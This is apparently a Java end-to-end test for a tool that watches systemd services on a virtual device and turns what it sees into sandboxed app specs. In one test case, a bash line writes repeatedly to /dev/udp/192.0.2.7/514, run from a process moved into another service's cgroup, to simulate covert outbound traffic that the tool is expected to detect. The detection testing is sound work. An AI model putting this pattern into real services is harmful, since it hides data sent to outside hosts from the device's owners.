package dev.sandbar.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.sandbar.vdev.CommandResult;
import dev.sandbar.vdev.VirtualDevice;
import java.time.Duration;
import org.junit.jupiter.api.Test;

/** What a service of a device does, watched by the command, saved, and combined with more. */
class LearnedFilesTest {

  /** A service that nobody made for Sandbar. */
  static final String GAUGE =
      """
      [Service]
      ExecStart=/usr/bin/bash -c 'mkdir -p /var/lib/gauge; exec 3>>/var/lib/gauge/log; while :; do read -r load </proc/loadavg; \
        echo "$load" >/var/lib/gauge/load; sleep 0.2; done'
      NoNewPrivileges=yes
      """;

  private static final String WAITS = "1000";

  /** The same, and on this day it sends what it reads to somebody. */
  private static final String EXTRA = "exec 4<>/dev/udp/192.0.2.7/514; while :; do echo x >&4;";

  private static CommandResult sandbar(VirtualDevice device, String line) {
    return DeviceCli.run(device, Duration.ofSeconds(60), line);
  }

  private static CommandResult good(VirtualDevice device, String line) {
    CommandResult result = sandbar(device, line);
    assertThat(result.exitCode()).as("%s: %s%s", line, result.stdout(), result.stderr()).isZero();
    return result;
  }

  private static String bad(VirtualDevice device, String line) {
    CommandResult result = sandbar(device, line);
    assertThat(result.exitCode()).as("%s: %s%s", line, result.stdout(), result.stderr()).isOne();
    return joined(result.stderr());
  }

  private static String joined(String text) {
    return text.replaceAll("\\s+", " ");
  }

  @Test
  void aServiceIsLearnedAndWhatWasSeenOfItIsCombined() throws Exception {
    var builder = ChildJvm.shown(VirtualDevice.named("learning"));
    try (VirtualDevice device = builder.boot()) {
      learnsWhatAServiceUses(device);
      learnsWhatStaysOfAWrapper(device);
      learnsWhatGoesIntoTheBackground(device);
      writesAFolder(device);
      combinesWhatTwoDevicesSaw(device);
      becomesAnApp(device);
    }
  }

  private static void learnsWhatAServiceUses(VirtualDevice device) {
    assertThat(bad(device, "learn gauge")).contains("gauge.service does not run");
    assertThat(bad(device, "learn Gauge --for 24h")).contains("cannot be the name of an app");
    assertThat(bad(device, "learn getty@.service")).contains("no service that can be watched");
    device.write("/etc/systemd/system/gauge.service", GAUGE);
    device.exec("systemctl", "daemon-reload").orThrow();
    device.exec("systemctl", "start", "gauge").orThrow();
    CommandResult learned =
        good(device, "learn gauge --restart --for 2s --save /root/1.json --device-name pump-1");
    assertThat(joined(learned.stderr()))
        .contains(
            "note: systemInfo: reads /proc/loadavg",
            "note: state: writes to /var/lib/sandbar-gauge/load",
            "note: keeps what it has in /var/lib/gauge: the spec names the app's own places",
            "saved what was seen on pump-1 in /root/1.json");
    assertThat(learned.stdout())
        .contains("name: gauge", "systemInfo: true", "state: true", "/var/lib/sandbar-gauge/load")
        .doesNotContain("internet", "jit", "unixSockets", "mode:", "NoNewPrivileges");
    assertThat(device.exec("stat", "-c", "%a %U", "/root/1.json").stdout().strip())
        .isEqualTo("600 root");
    assertThat(bad(device, "learn gauge --save /root/1.json"))
        .contains("/root/1.json exists already, and is not overwritten");
    device.write("/root/gauge.yaml", learned.stdout());
  }

  /**
   * A service that systemd listens for, whose unit names a script and variables of a file: the
   * script asks for names, as every program does, and then becomes the program itself.
   */
  private static void learnsWhatStaysOfAWrapper(VirtualDevice device) {
    device.write("/etc/systemd/system/bell.socket", "[Socket]\nListenStream=8088\n");
    device.write(
        "/etc/systemd/system/bell.service",
        """
        [Service]
        EnvironmentFile=/etc/default/bell
        ExecStart=/usr/local/bin/bell $OPTIONS
        TasksMax=4000
        """);
    device.write("/etc/default/bell", "OPTIONS=%s\n".formatted(WAITS));
    device.write(
        "/usr/local/bin/bell",
        "#!/bin/sh\ngetent ahosts localhost >/dev/null\necho $$ >/run/bell.pid\nexec sleep \"$@\"\n");
    device.exec("chmod", "755", "/usr/local/bin/bell").orThrow();
    device.exec("systemctl", "daemon-reload").orThrow();
    device.exec("systemctl", "start", "bell.socket", "bell").orThrow();
    CommandResult learned = good(device, "learn bell --restart --for 2s");
    assertThat(learned.stdout())
        .contains("via: Socket", "port: 8088", "/usr/bin/sleep", WAITS)
        .doesNotContain("internet", "localNetwork", "networkStatus", "/usr/local/bin/bell");
    assertThat(joined(learned.stderr()))
        .contains(
            "note: what has to change before it runs:",
            "writes to /run/bell.pid: an app writes only to its run.runtimeDirectories in /run",
            "ExecStart=/usr/local/bin/bell $OPTIONS: the program that stayed is /usr/bin/sleep");
    // The same variables in a file that not everybody may read stay there.
    device.exec("chmod", "600", "/etc/default/bell").orThrow();
    CommandResult withheld = good(device, "learn bell --for 1s");
    assertThat(withheld.stdout() + withheld.stderr()).doesNotContain(WAITS);
    assertThat(joined(withheld.stderr()))
        .contains("the arguments of the running process are left out");
    assertThat(good(device, "learn bell --for 1s --environment-files").stdout()).contains(WAITS);
    device.exec("systemctl", "stop", "bell.socket", "bell").orThrow();
  }

  private static void learnsWhatGoesIntoTheBackground(VirtualDevice device) {
    device.write(
        "/usr/local/bin/horn",
        "#!/bin/bash\n( while :; do read -r -t 1 <>/dev/null; sleep 1; done ) >/dev/null 2>&1 &\n");
    device.exec("chmod", "755", "/usr/local/bin/horn").orThrow();
    device.write(
        "/etc/systemd/system/horn.service",
        "[Service]\nType=forking\nExecStart=/usr/local/bin/horn\n");
    device.exec("systemctl", "daemon-reload").orThrow();
    device.exec("systemctl", "start", "horn").orThrow();
    CommandResult learned = good(device, "learn horn --restart --for 2s");
    assertThat(learned.stdout()).contains("type: Forking", "/usr/local/bin/horn");
    device.write("/root/horn.yaml", learned.stdout());
    device.exec("systemctl", "stop", "horn").orThrow();
    assertThat(good(device, "apply /root/horn.yaml --yes").stdout()).contains("done  horn");
    assertThat(device.exec("systemctl", "is-active", "sandbar-horn").stdout())
        .isEqualTo("active\n");
    good(device, "delete horn");
  }

  /**
   * Of a service whose configuration says where it keeps what it has: the folder is a repository.
   */
  private static void writesAFolder(VirtualDevice device) {
    device.exec("mkdir", "-p", "/etc/tank", "/var/lib/tank/levels").orThrow();
    device.write("/etc/tank/tank.conf", "dir=/var/lib/tank/levels\n");
    device.write("/etc/tank/key", "secret\n");
    device.exec("chmod", "600", "/etc/tank/key").orThrow();
    device.write(
        "/usr/local/bin/tank",
        "#!/bin/bash\nread -r key </etc/tank/key\n. /etc/tank/tank.conf\n"
            + "while :; do echo 1 >\"$dir/now\"; sleep 0.2; done\n");
    device.exec("chmod", "755", "/usr/local/bin/tank").orThrow();
    device.write("/etc/systemd/system/tank.service", "[Service]\nExecStart=/usr/local/bin/tank\n");
    device.exec("systemctl", "daemon-reload").orThrow();
    device.exec("systemctl", "start", "tank").orThrow();
    CommandResult learned = good(device, "learn tank --restart --for 2s --write /root/apps");
    assertThat(learned.stdout()).isEmpty();
    assertThat(joined(learned.stderr()))
        .contains(
            "reads /etc/tank/key, which not everybody may read",
            "wrote /root/apps/tank.yaml and 1 file for it")
        .doesNotContain("writes to /var/lib/tank");
    assertThat(device.exec("cat", "/root/apps/tank/etc/tank/tank.conf").stdout())
        .isEqualTo("dir=/var/lib/sandbar-tank/levels\n");
    assertThat(device.exec("cat", "/root/apps/tank.yaml").stdout())
        .contains("file: tank/etc/tank/tank.conf", "/var/lib/sandbar-tank/levels");
    good(device, "validate /root/apps");
    assertThat(bad(device, "learn tank --for 1s --write /root/apps"))
        .contains("/root/apps/tank.yaml exists already");
    device.exec("systemctl", "stop", "tank").orThrow();
    // Without the key the rest of it runs.
    device.exec("chmod", "644", "/etc/tank/key").orThrow();
    assertThat(good(device, "apply /root/apps --yes").stdout()).contains("done  tank");
    await()
        .atMost(Duration.ofMinutes(4))
        .until(
            () ->
                device
                    .exec("cat", "/var/lib/private/sandbar-tank/levels/now")
                    .stdout()
                    .equals("1\n"));
  }

  private static void combinesWhatTwoDevicesSaw(VirtualDevice device) {
    // What bash does beside the program of the unit file, on a device that somebody is on.
    device
        .exec(
            "sh",
            "-c",
            "cat >/root/beside <<'EOF'\necho $$ >/sys/fs/cgroup/system.slice/gauge.service/cgroup.procs\n"
                + EXTRA
                + " sleep 0.2; done\nEOF\nip address add 192.0.2.1/24 dev lo;"
                + " setsid bash /root/beside >/dev/null 2>&1 &")
        .orThrow();
    good(device, "learn gauge --for 2s --save /root/2.json --device-name pump-2");
    CommandResult alone = good(device, "learn --from /root/1.json");
    assertThat(alone.stdout()).isEqualTo(device.exec("cat", "/root/gauge.yaml").stdout());
    CommandResult both = good(device, "learn --from /root/2.json /root/1.json --of 20");
    assertThat(both.stdout())
        .contains("name: gauge", "systemInfo: true", "state: true", "internet: true");
    assertThat(joined(both.stderr()))
        .contains(
            "gauge.service was seen on 2 of 20 devices, for 2 seconds each",
            "how it starts was not seen on pump-2",
            "systemInfo: on both devices: reads /proc/loadavg",
            "internet: on 1 of 2 devices, pump-2: talks to 192.0.2.7:514");
    assertThat(good(device, "learn --from /root/1.json /root/2.json --adopt").stdout())
        .contains("unit: gauge.service", "realtime: false")
        .doesNotContain("internet: false", "ProtectSystem");
  }

  private static void becomesAnApp(VirtualDevice device) {
    device.exec("systemctl", "stop", "gauge").orThrow();
    assertThat(good(device, "apply /root/gauge.yaml --yes").stdout()).contains("done  gauge");
    CommandResult app =
        good(device, "learn sandbar-gauge.service --for 1s -o json --save /root/app.json");
    assertThat(app.stdout()).contains("\"systemInfo\"");
    assertThat(bad(device, "learn sandbar-gauge.service --for 1s --adopt"))
        .contains("is an app already");
    assertThat(bad(device, "learn --from /root/1.json /root/app.json"))
        .contains("gauge.service was watched on pump-1, but sandbar-gauge.service on");
  }
}
